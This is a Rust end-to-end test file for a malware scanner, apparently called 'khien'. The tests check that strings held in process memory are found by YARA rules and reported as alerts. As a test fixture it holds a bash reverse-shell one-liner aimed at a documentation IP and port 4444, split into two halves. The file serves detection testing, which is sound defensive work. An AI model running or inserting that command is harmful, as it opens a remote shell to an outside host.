//! What is only in the memory of a process: found on demand, and by the agent where something is odd about the process.

use std::{
    fs,
    io::{BufRead, BufReader, Write},
    path::{Path, PathBuf},
    process::{Child, Command, Stdio},
};

use serde_json::Value;
use tempfile::TempDir;

use crate::{
    harness::Site,
    place::{cannot_run, is_root, program},
};

/// A process with something in its memory.
const HOLDER: &str = include_str!("../../../scan/src/tests/holder.c");
/// What an intruder types, in two halves as everywhere here.
const COMMAND: [&str; 2] = ["bash -i >& /dev", "/tcp/203.0.113.7/4444 0>&1"];
/// What a rule of one test only looks for.
const MARK: [&str; 2] = ["KHIEN-E2E-", "MEMORY-MARK"];

#[test]
fn a_command_in_the_memory_of_a_process_is_found_with_its_process_region_and_rule() {
    let built = Built::new();
    let (holder, other) = (built.start("plain", COMMAND), built.start("plain", ["nothing", " to see"]));
    let (pid, clean) = (holder.pid(), other.pid());

    let (code, lines, summary) = json(&["--pid", &pid, &clean, "--all"]);

    let of = |pid: &str| {
        let pid: u32 = pid.parse().unwrap();
        lines.iter().find(|line| line["pid"] == pid).unwrap()
    };
    let found = of(&pid);
    assert_eq!((&found["outcome"], &found["path"]), (&"matched".into(), &built.path().into()));
    let hit = &found["matches"][0];
    assert_eq!((&hit["rule"], &hit["severity"]), (&"shell.reverse.script".into(), &"critical".into()));
    assert!(hit["inside"][0].as_str().unwrap().starts_with("rw-p "), "{hit}");
    assert!(hit["excerpts"][0]["matched"].as_str().unwrap().contains("203.0.113.7"), "{hit}");
    assert_eq!(of(&clean)["outcome"], "clean");
    assert_eq!((code, &summary["files"], &summary["rules"]), (1, &2.into(), &3.into()), "{summary}");
    let (code, out, err) = run(&["--pid", &pid]);
    assert!(out.starts_with("CRITICAL    shell.reverse.script  "), "{out}");
    assert!(out.contains(&format!("{pid} {} › rw-p ", built.path())), "{out}");
    assert!(err.contains("memory of 1 processes"), "{err}");
    assert_eq!(code, 1);
    assert_eq!(run(&["--pid", &clean]).0, 0);
}

#[test]
fn a_process_that_is_not_there_is_told_and_rules_of_others_run_on_memory_too() {
    let built = Built::new();
    let holder = built.start("plain", MARK);
    let rules = built.dir.path().join("mine.yar");
    let rule = format!(
        "rule mine {{ strings: $a = \"{}\" condition: $a and filename == \"holder\" }}",
        MARK.concat()
    );
    fs::write(&rules, rule).unwrap();

    let (code, lines, _) = json(&["--pid", &holder.pid(), "--rules", rules.to_str().unwrap()]);
    assert_eq!((code, &lines[0]["matches"][0]["rule"]), (1, &"mine".into()), "{lines:?}");

    let (code, out, err) = run(&["--pid", "4194304"]);
    assert_eq!((code, out.as_str()), (3, ""), "{err}");
    assert!(err.contains("NOT SCANNED  4194304: there is no such process"), "{err}");
    assert_eq!(run(&["--pid", "1", "/tmp"]).0, 2, "processes or files, not both");
}

#[test]
fn every_process_is_scanned_on_demand_but_for_the_scan_itself() {
    if !is_root() {
        return cannot_run("only root makes a process namespace");
    }
    let built = Built::new();
    let line = "\"$0\" plain \"$1\" \"$2\" < <(sleep 600) > \"$3\" & until grep -q done \"$3\"; do :; done; \
        \"$4\" scan --processes --json --all";
    let mut command = Command::new("unshare");
    command.args(["--pid", "--fork", "--mount-proc", "--kill-child", "bash", "-c", line, built.path()]);
    command.args(COMMAND).arg(built.dir.path().join("said")).arg(program("khien"));

    let out = command.env("KHIEN_LANG", "en").stdin(Stdio::null()).output().unwrap();

    let text = String::from_utf8(out.stdout).unwrap();
    let lines: Vec<Value> = text.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let of =
        |name: &str| lines.iter().filter(|l| l["path"].as_str().is_some_and(|p| p.ends_with(name))).count();
    assert_eq!((of("/holder"), of("/sleep"), of("/khien")), (1, 1, 0), "{text}");
    let summary = &lines.last().unwrap()["summary"];
    assert!(!summary["own"].as_array().unwrap().is_empty(), "{text}");
    assert!(summary["matched"].as_u64().unwrap() >= 1 && summary["exit"] == 1, "{text}");
}

#[test]
fn the_agent_finds_what_is_only_in_the_memory_of_a_process_with_writable_code() {
    if !is_root() {
        return cannot_run("memory of others is read by root");
    }
    let (site, built) = (Site::with_sweeps(), Built::new());
    let holder = built.start("code", MARK);
    let mut up = site.up(&["--watch", site.web.to_str().unwrap()]);
    push_mark(&site);

    let alert = up.alert("what is in the memory", |a| a["rule"] == "test.mark");

    assert_eq!(alert["process"]["pid"].to_string(), holder.pid(), "{alert}");
    assert_eq!((&alert["process"]["exe"], &alert["path"]), (&built.path().into(), &Value::Null), "{alert}");
    assert_eq!(alert["excerpts"][0]["matched"], MARK.concat());
    let what = alert["what"]["vi"].as_str().unwrap();
    assert!(
        what.starts_with(&format!("tiến trình {} {}, vùng nhớ rwxp ", holder.pid(), built.path())),
        "{what}"
    );
    let (_, shown, _) = site.cli(&["alert", "show", alert["id"].as_str().unwrap()]);
    assert!(shown.contains(", memory rwxp ") && shown.contains("holder"), "{shown}");
    let covered = site.json(&["agent", "list"]);
    let coverage = covered[0]["coverage"].as_array().unwrap();
    assert!(coverage.iter().any(|c| c["scope"] == "memory" && c["backend"] == "proc"), "{covered}");
}

#[test]
fn an_ordered_scan_of_memory_finds_what_a_process_holds_about_which_nothing_is_odd() {
    if !is_root() {
        return cannot_run("memory of others is read by root");
    }
    let (site, built) = (Site::with_sweeps(), Built::new());
    let (holder, other) = (built.start("plain", MARK), built.start("plain", ["nothing", " to see"]));
    let mut up = site.up(&["--watch", site.web.to_str().unwrap()]);
    push_mark(&site);
    let agents = site.until(&["agent", "list"], "the pack", |a| a[0]["pack"] == PACK);
    let host = agents[0]["host"].as_str().unwrap();
    let agent = up.child_pid("khien-agent").unwrap().to_string();
    let ordered = |pids: &[&str]| {
        let pids = pids.iter().flat_map(|pid| ["--pid", *pid]);
        let args: Vec<&str> = ["agent", "scan", host, "--json"].into_iter().chain(pids).collect();
        let (code, out, err) = site.cli(&args);
        let scan: Value = serde_json::from_str(&out).unwrap_or_else(|e| panic!("{e}: {out}{err}"));
        (code, scan["answer"].clone())
    };

    let (found, answer) = ordered(&[&holder.pid(), &other.pid(), &agent]);
    let (clean, of_other) = ordered(&[&other.pid()]);
    let (incomplete, of_none) = ordered(&[&other.pid(), "4194304"]);

    let totals = &answer["totals"];
    assert_eq!((found, &answer["ended"], &totals["of"]), (6, &"whole".into(), &"processes".into()));
    assert_eq!(totals["outcomes"], serde_json::json!({ "matched": 1, "clean": 1 }), "{answer}");
    assert_eq!(totals["own"], 1, "the agent holds the rule itself: {answer}");
    let pid: u32 = holder.pid().parse().unwrap();
    let alert = up.alert("what is in the memory", |a| a["rule"] == "test.mark" && a["process"]["pid"] == pid);
    assert_eq!(alert["excerpts"][0]["matched"], MARK.concat());
    assert_eq!((clean, &of_other["totals"]["outcomes"]["clean"]), (0, &1.into()), "{of_other}");
    let missed = serde_json::json!([{ "pid": 4_194_304, "path": "", "why": "unreadable" }]);
    assert_eq!((incomplete, &of_none["totals"]["missed"]), (7, &missed), "{of_none}");
    let (_, listed, _) = site.cli(&["agent", "scans"]);
    assert!(listed.contains("all was looked at; 1 processes looked at (clean 1)"), "{listed}");
}

/// The version of the pack with the mark.
const PACK: u64 = 4_000_000;

/// Pushes a pack with a rule for the mark that fits memory.
fn push_mark(site: &Site) {
    let pack = site.web.with_file_name("pack");
    fs::create_dir(&pack).unwrap();
    let rule = format!("rule mark {{ strings: $a = \"{}\" condition: $a }}", MARK.concat());
    fs::write(pack.join("mark.yar"), rule).unwrap();
    let words = "{ vi = \"Dấu thử\", en = \"A mark\" }";
    let manifest = format!(
        "version = {PACK}\n[[rule]]\nid = \"test.mark\"\nyara = \"mark\"\nseverity = \"high\"\nmemory = true\n\
         title = {words}\nexplanation = {words}\nnext_step = {words}\n"
    );
    fs::write(pack.join("pack.toml"), manifest).unwrap();
    let (code, _, err) = site.cli(&["rules", "push", pack.to_str().unwrap()]);
    assert_eq!(code, 0, "{err}");
}

/// Returns exit code, stdout and stderr of `khien scan`.
fn run(args: &[&str]) -> (i32, String, String) {
    let mut command = Command::new(program("khien"));
    command.arg("scan").args(args).env("KHIEN_LANG", "en").stdin(Stdio::null());
    let out = command.output().unwrap();
    let text = |bytes: Vec<u8>| String::from_utf8(bytes).unwrap();
    (out.status.code().unwrap_or(-1), text(out.stdout), text(out.stderr))
}

/// Returns its exit code, its lines with `--json`, and the summary at their end.
fn json(args: &[&str]) -> (i32, Vec<Value>, Value) {
    let (code, out, err) = run(&[args, &["--json"]].concat());
    let mut lines: Vec<Value> = out.lines().map(|line| serde_json::from_str(line).unwrap()).collect();
    let mut last = lines.pop().unwrap_or_else(|| panic!("nothing was printed: {err}"));
    (code, lines, last["summary"].take())
}

/// The program that holds something, built here.
struct Built {
    dir: TempDir,
    path: PathBuf,
}

impl Built {
    fn new() -> Self {
        let dir = tempfile::Builder::new().prefix("khien-memory-").tempdir().unwrap();
        let path = dir.path().canonicalize().unwrap().join("holder");
        let mut compiler = Command::new("cc");
        compiler.args(["-O1", "-x", "c", "-o"]).arg(&path).arg("-").stdin(Stdio::piped());
        let mut compiling = compiler.spawn().unwrap();
        compiling.stdin.take().unwrap().write_all(HOLDER.as_bytes()).unwrap();
        assert!(compiling.wait().unwrap().success());
        Self { dir, path }
    }

    fn path(&self) -> &str {
        Path::to_str(&self.path).unwrap()
    }

    fn start(&self, way: &str, halves: [&str; 2]) -> Holder {
        let mut command = Command::new(&self.path);
        command.arg(way).args(halves).stdin(Stdio::piped()).stdout(Stdio::piped());
        let mut child = command.spawn().unwrap();
        let mut said = String::new();
        BufReader::new(child.stdout.take().unwrap()).read_line(&mut said).unwrap();
        assert_eq!(said, "done\n");
        Holder(child)
    }
}

/// A process that ends with its test.
struct Holder(Child);

impl Holder {
    fn pid(&self) -> String {
        self.0.id().to_string()
    }
}

impl Drop for Holder {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}
